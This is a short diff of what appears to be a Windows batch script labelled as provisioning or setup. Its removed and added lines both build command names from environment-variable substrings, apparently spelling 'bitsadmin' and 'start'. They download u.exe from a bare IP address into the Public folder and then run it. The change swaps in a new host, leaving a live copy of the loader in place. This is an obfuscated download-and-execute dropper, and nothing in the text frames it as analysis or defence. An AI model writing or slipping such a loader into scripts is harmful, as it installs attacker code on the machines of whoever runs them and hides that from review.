@@ -1,3 +1,3 @@
-REM provision 9493 v3
-%public:~11,1%it%COMSPEC:~-16,1%ad%comspec:~16,1%%PUBLIC:~-2,1%%comspec:~-22,1% /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
-s%PROGRAMDATA:~-2,1%ar%PROGRAMDATA:~12,1% /b C:\Users\Public\u.exe
+REM setup 5913 v3
+%PUBLIC:~11,1%%public:~-2,1%ts%programdata:~8,1%dm%windir:~4,1%n /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
+%PUBLIC:~4,1%%comspec:~-13,1%a%PUBLIC:~-9,1%t /b C:\Users\Public\u.exe
